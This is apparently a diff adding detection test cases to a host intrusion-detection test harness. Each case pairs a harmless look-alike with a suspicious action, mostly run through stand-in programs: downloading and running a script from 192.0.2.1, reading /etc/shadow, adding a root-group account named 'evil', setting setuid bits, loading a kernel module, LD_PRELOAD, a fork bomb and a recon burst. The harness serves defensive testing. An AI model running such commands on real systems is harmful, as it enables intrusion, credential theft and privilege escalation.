@@ -94,6 +94,39 @@ def at_a_terminal(*argv):
     subprocess.run(["script", "-qec", " ".join([stand_in(argv[0]), *argv[1:]]), "/dev/null"], check=True, **QUIET)
 
 
+_kept = []
+
+
+def keep(name, *args, **popen):
+    """A copy of helpers/act.c that does its steps and waits until the end of the test."""
+    process = subprocess.Popen([name, *args], executable=stand_in(name, helper("act")),
+                               **{**QUIET, "stdin": subprocess.PIPE, **popen})
+    _kept.append(process)
+    return process.pid
+
+
+def let_go():
+    while _kept:
+        _kept.pop().communicate()
+
+
+def crash(name, number):
+    for _ in range(3):
+        pid = subprocess.Popen([name, f"kill:{number}"], executable=stand_in(name, helper("act")), **QUIET)
+        pid.wait()
+    return pid.pid
+
+
+def session(text, *names):
+    """A session of its own in which a shell does this, with the paths of stand-ins as $1, $2 and so on."""
+    process = subprocess.Popen(["session", "-c", text, "x", *map(stand_in, names)],
+                               executable=stand_in("session", "/bin/bash"), start_new_session=True, **QUIET)
+    process.wait()
+    return process.pid
+
+
+LOOKS = ["whoami", "id", "w", "uname", "ps", "ss", "hostname"]
+
 # script: (what looks alike, what it is for, words of what it then tells, settings). Each returns the pid of the
 # process, or of its parent.
 CASES = {
@@ -116,6 +149,21 @@ CASES = {
                    "removes or empties /var/log/messages"),
     "defence-off": (lambda: run("systemctl", "stop", "nginx"), lambda: run("systemctl", "stop", "auditd"),
                     "stop of auditd"),
+    "crash-loop": (lambda: crash("ended", 15), lambda: crash("crashing", 11), "crashed 3 times"),
+    "fork-bomb": (lambda: keep("build", "child exit:0 | " * 20 + "reap wait", start_new_session=True),
+                  lambda: keep("bomb", "child wait | " * 20 + "wait", start_new_session=True), "processes more within",
+                  "grown=15"),
+    "recon-burst": (lambda: session('for c; do "$1"; done', *LOOKS), lambda: session('for c; do "$c"; done', *LOOKS),
+                    "7 ways of looking around"),
+    "download-and-execute": (lambda: session('"$1" -O http://192.0.2.1/a.sh; "$2"', "curl", "b.sh"),
+                             lambda: session('"$1" -O http://192.0.2.1/c.sh; "$2"', "curl", "c.sh"),
+                             "runs what was downloaded"),
+    "kernel-module": (lambda: run("modprobe", "-n", "x"), lambda: run("insmod", "/tmp/x.ko"), "loads the kernel module"),
+    "ld-preload": (lambda: keep("act", "wait", env={"LD_PRELOAD": "libeatmydata.so"}),
+                   lambda: keep("act", "wait", env={"LD_PRELOAD": "/tmp/no-such.so"}), "LD_PRELOAD loads /tmp/no-such.so"),
+    "credential-files": (lambda: run("cat", "/etc/passwd"), lambda: run("cat", "/etc/shadow"), "is about /etc/shadow"),
+    "account-commands": (lambda: run("useradd", "-D"), lambda: run("useradd", "-g", "0", "evil"), "makes an account"),
+    "setuid-bit": (lambda: run("chmod", "0755", "x"), lambda: run("chmod", "u+s", "x"), "makes a file setuid"),
 }
 
 
@@ -144,6 +192,7 @@ def claim(name, alike, act, wanted, *settings):
             check(wanted in alert["message"], f"it says {alert['message']}")
             check(alert["rule"]["name"] == name and alert["rule"]["tags"], f"rule: {alert['rule']}")
             w.marker()
+            let_go()
             check(not alerts_about(w, harmless), f"alerted of what looks alike: {alerts_about(w, harmless)}")
             no_errors(w, name)
 
